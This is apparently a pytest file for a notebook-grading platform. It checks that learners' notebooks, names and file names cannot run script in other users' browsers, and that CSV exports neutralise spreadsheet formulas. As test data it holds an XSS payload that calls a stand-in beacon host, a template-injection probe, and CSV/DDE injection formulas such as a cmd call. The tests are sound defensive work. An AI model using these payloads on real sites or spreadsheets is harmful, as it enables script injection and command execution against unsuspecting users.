"""What learners' notebooks, files and names do in the browser of whoever looks at them: nothing.

The notebooks are those of ``gallery/show``. They run behind the wall, and the pages about them are opened in Chromium.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from django.test import Client
from pytest_django.live_server_helper import LiveServer

from accounts.models import User
from graders.loading import load
from graders.quest import Quest
from graders.report import Report
from quests import files
from quests.datasets.store import Store
from quests.models import QuestVersion, Submission
from tests.attacks.attack import Attack, gallery
from tests.attacks.quests import RECIPES
from tests.attacks.stage import QUESTS
from tests.attacks.window import Seen, show, visit
from tests.graders.folders import write_quest
from tests.people import School
from worker import pipeline

pytestmark = pytest.mark.browser

SHOWING = [attack for attack in gallery() if attack.name.startswith("show/")]
CALL = "fetch('http://beacon.example/name');top.owned=self.owned=1;alert(1)"
MARK = f"""'"></title></script><script>{CALL}</script><img src=x onerror="{CALL}">{{{{ 7 * 7 }}}}"""
FORMULAS = [
    "=HYPERLINK(1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
"""Of formulas, in one spreadsheet or another."""

Look = Callable[..., Seen]


@pytest.fixture
def look(live_server: LiveServer) -> Look:
    """Open pages as somebody: ``look(person, path, ...)``."""

    def look(person: User, *paths: str) -> Seen:
        client = Client()
        client.force_login(person)
        return visit(live_server.url, paths, {name: morsel.value for name, morsel in client.cookies.items()})

    return look


def kept_quest(school: School, folder: Path, name: str = "sums") -> Quest:
    """The sums, or a quest of attacks, as the open quest, whose folder can be read."""
    quest = load(write_quest(folder / "quest") if name == "sums" else QUESTS / name)
    files.keep_quest_folder(quest.folder, quest.digest)
    QuestVersion.objects.filter(quest=school.open_quest).update(digest=quest.digest, max_score=quest.max_points)
    school.open_quest.refresh_from_db()
    return quest


def pages_of(submission: Submission) -> tuple[str, str, str]:
    """The submission's page, which has the notebook in a frame; that notebook by itself; the history."""
    place = f"/submissions/{submission.pk}/"
    return place, f"{place}notebook/", "/history/"


def graded(submission: Submission, report: Report) -> Submission:
    """As the services store a report."""
    submission.status = Submission.Status.GRADED
    submission.score, submission.max_score = report.score, report.max_score
    submission.report = report.model_dump(mode="json")
    submission.save()
    return submission


@pytest.mark.parametrize("attack", SHOWING, ids=lambda attack: attack.name)
def test_a_notebook_does_nothing_in_its_reader_s_browser(
    attack: Attack, school: School, look: Look, tmp_path: Path
) -> None:
    quest = kept_quest(school, tmp_path, attack.quest)
    submission = school.submission()
    evidence = files.evidence_folder(submission.pk, submission.attempt)
    report = pipeline.grade(quest, attack.upload(quest, {}), evidence, store=Store(tmp_path / "home", RECIPES))
    assert report.score == attack.score, report.reason

    seen = look(school.instructor, *pages_of(graded(submission, report)))

    assert seen.nothing, seen
    page, executed, _ = seen.texts
    assert ("add" if attack.quest == "sums" else "plt.subplots") in executed, "the notebook is shown"
    assert "%" in page, "and so is the report"


@pytest.mark.parametrize("name", ["html_scripts", "svg_scripts", "frames", "leaving", "styles"])
def test_where_nothing_forbids_it_the_same_outputs_do_harm(name: str, school: School, tmp_path: Path) -> None:
    """So the test above would see it."""
    [attack] = [attack for attack in SHOWING if attack.name == f"show/{name}"]
    quest = load(write_quest(tmp_path / "quest"))
    pipeline.grade(quest, attack.upload(quest, {}), tmp_path / "evidence", store=Store(tmp_path / "home"))
    notebook = json.loads((tmp_path / "evidence" / "executed.ipynb").read_bytes())
    outputs = [output["data"] for cell in notebook["cells"] for output in cell.get("outputs", []) if "data" in output]
    html = "".join("".join(data.get("text/html") or data.get("image/svg+xml") or "") for data in outputs)
    assert not show(html).nothing


def test_names_of_people_and_files_do_nothing_wherever_they_stand(school: School, look: Look, tmp_path: Path) -> None:
    kept_quest(school, tmp_path)
    User.objects.filter(pk=school.learner.pk).update(name=MARK[:120])
    school.cohort.name = MARK[:100]
    school.cohort.save()
    submission = school.submission()
    submission.file_name = f"{MARK[:100]}.ipynb"
    graded(submission, Report.graded(quest=submission.quest.slug, findings=[]))

    cohort = f"/teach/cohorts/{school.cohort.pk}/"
    learners = ("/", f"/quests/{submission.quest.slug}/", *pages_of(submission))
    staff = ("/teach/", cohort, f"{cohort}learners/{school.learner.pk}/", "/insight/")
    for person, paths in ((school.learner, learners), (school.instructor, staff), (school.admin, staff)):
        seen = look(person, *paths)
        assert seen.nothing, seen
        assert any("<script>" in text for text in seen.texts), "shown as the words that they are"


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_name_is_a_formula_in_the_tables_that_people_download(formula: str, school: School) -> None:
    User.objects.filter(pk=school.learner.pk).update(name=formula)
    graded(school.submission(), Report.graded(quest=school.open_quest.slug, findings=[]))
    client = Client()
    client.force_login(school.admin)
    for address in (f"/teach/cohorts/{school.cohort.pk}.csv", "/insight/grades.csv", "/insight/scores.csv"):
        table = client.get(address).content.decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(table, newline="")) for cell in row]
        assert f"'{formula}" in cells or address.endswith("scores.csv"), "the name, as text"
        assert not [cell for cell in cells if cell.startswith(STARTS)], address
